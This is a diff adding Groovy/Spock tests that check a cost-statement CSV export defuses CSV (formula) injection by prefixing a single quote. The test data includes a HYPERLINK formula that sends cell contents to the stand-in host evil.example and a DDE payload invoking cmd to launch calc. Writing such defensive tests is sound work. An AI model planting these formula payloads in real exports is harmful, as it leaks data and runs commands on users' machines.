@@ -176,4 +176,71 @@ class StatementCsvSpec extends Specification {
         raw.contains('"Familjecentralen ""Solen""; Öst"')
         rows.every { it.Familjecentral == 'Familjecentralen "Solen"; Öst' && it.Andel ==~ AMOUNT }
     }
+
+    // ---- CSV injection (OWASP): text a spreadsheet would run as a formula --------------------
+
+    static final String HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
+    static final String CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+    def "a name that a spreadsheet would run as a formula is written as text: a single quote in front, quoted"() {
+        given: 'example A with the centre, a debtor service and a cost line named as formulas'
+        Map doc = new groovy.json.JsonSlurper().parseText(StatementApi.exampleA(StatementApi.orgNo(), StatementApi.orgNo())) as Map
+        doc.centre.name = HYPERLINK
+        doc.centre.services.find { it.id == 'BMM' }.name = CALC
+        doc.centre.costLines.find { it.id == 'rent' }.name = '+SUM(A1:A9)'
+        doc.centre.costLines.find { it.id == 'cleaning' }.name = '-2+3'
+        long centre = api.importCentre(groovy.json.JsonOutput.toJson(doc))
+        String municipality = doc.centre.entities[1].organisationNumber
+        String region = doc.centre.entities[0].organisationNumber
+        Map big = StatementApi.between(api.issued(centre), municipality, region)
+
+        when:
+        String raw = new String(api.get("/api/v1/statements/${big.id}.csv").bytes, 'UTF-8')
+        List<Map<String, String>> rows = csv(big.id as long)
+
+        then: 'the cells start with a single quote and are quoted, their quotes doubled'
+        raw.contains(';"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka"")";')
+        raw.contains(';"\'@SUM(1+1)*cmd|\' /C calc\'!A0";')
+        raw.contains(';"\'+SUM(A1:A9)";')
+        raw.contains(';"\'-2+3";')
+
+        and: 'no cell a spreadsheet reads starts with a formula character, save the amounts'
+        rows.every { Map<String, String> row ->
+            row.findAll { k, v -> !(k in ['Postens belopp', 'Andel']) }.values().every { !(it ==~ /(?s)[=+\-@\t\r].*/) }
+        }
+        rows.every { it.Familjecentral == "'" + HYPERLINK }
+        rows.findAll { it.Verksamhet.contains('SUM') }*.Verksamhet.unique() == ["'" + CALC]
+        rows.any { it.Kostnadspost == "'+SUM(A1:A9)" }
+        rows.any { it.Kostnadspost == "'-2+3" }
+        rows.every { it.Andel ==~ AMOUNT && it['Postens belopp'] ==~ AMOUNT }
+    }
+
+    def "a negative amount is a number, never prefixed; text cells starting with a tab or a carriage return are"() {
+        given: 'a credit statement written directly, with text the import would refuse'
+        def period = new se.familycentre.allocation.Period(java.time.LocalDate.parse('2025-01-01'), java.time.LocalDate.parse('2025-03-31'))
+        def segment = new se.familycentre.allocation.Allocation.Segment(period.from(), period.to(), 90,
+                se.familycentre.allocation.Allocation.SegmentRule.EQUAL, 1000.00G,
+                [new se.familycentre.allocation.Allocation.Weight('a', 1G), new se.familycentre.allocation.Allocation.Weight('b', 1G)])
+        def line = new StatementLine('l', '\tTabbed line', se.familycentre.allocation.LineOrigin.COST_LINE,
+                se.familycentre.allocation.Pool.JOINT, 'b', se.familycentre.allocation.Sek.sek(-2469.12G), [segment], 'a',
+                se.familycentre.allocation.Sek.sek(-1234.56G))
+        def statement = new Statement('\rCentre', period, new Party('212000-1561', '-Kommunen', null, null, 30),
+                new Party('232100-0131', 'Region', null, null, 30), [new Statement.ServiceRef('a', 'CHILD_HEALTH', 'A', null)],
+                [new Statement.ServiceRef('b', 'OPEN_PRESCHOOL', 'B', null)], [line],
+                [(se.familycentre.allocation.Pool.JOINT): se.familycentre.allocation.Sek.sek(-1234.56G)],
+                se.familycentre.allocation.Sek.sek(-1234.56G))
+
+        when:
+        String raw = new String(StatementCsv.write('2025-0002', java.time.LocalDate.parse('2025-04-02'), statement), 'UTF-8')
+        List<String> cells = parse(raw.substring(1))[1]
+
+        then:
+        cells[3] == "'\rCentre"
+        cells[5] == "'-Kommunen"
+        cells[10] == "'\tTabbed line"
+        cells[11] == '-2469,12'
+        cells[14] == '-1234,56'
+        raw.contains(';-2469,12;') && raw.endsWith(';-1234,56\r\n')
+        !raw.contains("'-1234") && !raw.contains("'-2469")
+    }
 }
